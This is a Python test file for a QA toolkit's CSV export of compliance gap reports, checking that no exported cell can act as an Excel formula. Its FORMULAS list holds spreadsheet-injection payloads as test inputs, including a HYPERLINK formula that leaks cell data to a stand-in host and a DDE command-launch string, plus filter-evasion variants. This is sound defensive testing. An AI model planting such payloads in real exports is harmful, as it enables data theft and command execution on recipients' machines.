"""The spreadsheet: opens in Excel as it is meant, and no cell of it calculates."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from report_samples import realistic_report, with_every_text

from qa_toolkit.gap_report import GapReport
from qa_toolkit.reports.csv_ import COLUMNS, safe, table

FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "  =1",
    "\N{NO-BREAK SPACE}=1",
    "\N{ZERO WIDTH SPACE}=1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1",
    "'=1",
    "''=1",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    " +44 1632 960000",
)
CALCULATES = "=+-@＝＋－＠\t\r\n\0"


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.fixture(scope="module")
def report() -> GapReport:
    return realistic_report()


def test_one_row_for_each_criterion(report: GapReport) -> None:
    header, *rows = read(table(report))
    assert header == list(COLUMNS)
    assert {len(row) for row in rows} == {len(COLUMNS)}
    assert [dict(zip(COLUMNS, row, strict=True))["Criterion id"] for row in rows] == [
        r.criterion for r in report.judgements
    ]


def test_what_must_be_known_of_the_standard_stands_in_every_row(report: GapReport) -> None:
    for row in read(table(report))[1:]:
        about = dict(zip(COLUMNS, row, strict=True))
        assert about["Standard"] == report.standard.title
        assert about["Edition"] == report.standard.edition
        assert about["Disclaimer"] == report.standard.disclaimer
        assert about["Status of the wording"]


def test_a_gap_has_what_the_work_needs(report: GapReport) -> None:
    gap, detail = report.gaps[0], next(d for d in report.details if d.criterion == report.gaps[0].criterion)
    row = next(r for r in read(table(report)) if r[COLUMNS.index("Criterion id")] == gap.criterion)
    about = dict(zip(COLUMNS, row, strict=True))
    assert about["Gap"] == "1"
    assert about["Needed"] == gap.target_title
    assert about["Why it matters"] == detail.why
    assert about["What is missing"] == detail.missing
    assert about["Evidence to gather"] == "; ".join(detail.evidence)


def test_it_is_written_for_excel(report: GapReport) -> None:
    content = table(report)
    assert content.startswith(b"\xef\xbb\xbf")
    lines = content.decode("utf-8-sig").split("\r\n")
    assert lines[-1] == ""
    assert len(lines) == len(report.judgements) + 2
    assert all(line.startswith('"') and line.endswith('"') for line in lines[:-1])


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_calculates(report: GapReport, formula: str) -> None:
    for row in read(table(with_every_text(report, lambda text: formula + text)))[1:]:
        for field in row:
            assert not field.lstrip(" \N{NO-BREAK SPACE}\N{ZERO WIDTH SPACE}\ufeff").startswith(tuple(CALCULATES)), (
                field
            )


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_apostrophe_can_be_taken_off_again(formula: str) -> None:
    assert safe(formula) == f"'{formula}"


@pytest.mark.parametrize("text", ["", "Met", "'quoted'", "a = b", "3 of 4", " spaced", "É", "2026-27"])
def test_what_is_harmless_is_left_as_it_is(text: str) -> None:
    assert safe(text) == text


@given(st.text())
def test_safe_can_be_undone(text: str) -> None:
    written = safe(text)
    assert written in (text, f"'{text}")
    assert (safe(written) == f"'{written}") is (written != text or safe(text) != text)


@settings(max_examples=30)
@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=200))
def test_any_comment_comes_back(comment: str) -> None:
    report = realistic_report(12)
    judgements = tuple(dataclasses.replace(row, comment=comment) for row in report.judgements)
    for row in read(table(dataclasses.replace(report, judgements=judgements)))[1:]:
        assert row[COLUMNS.index("Comment")] == safe(comment)


def test_the_same_report_is_the_same_file(report: GapReport) -> None:
    assert table(report) == table(realistic_report())
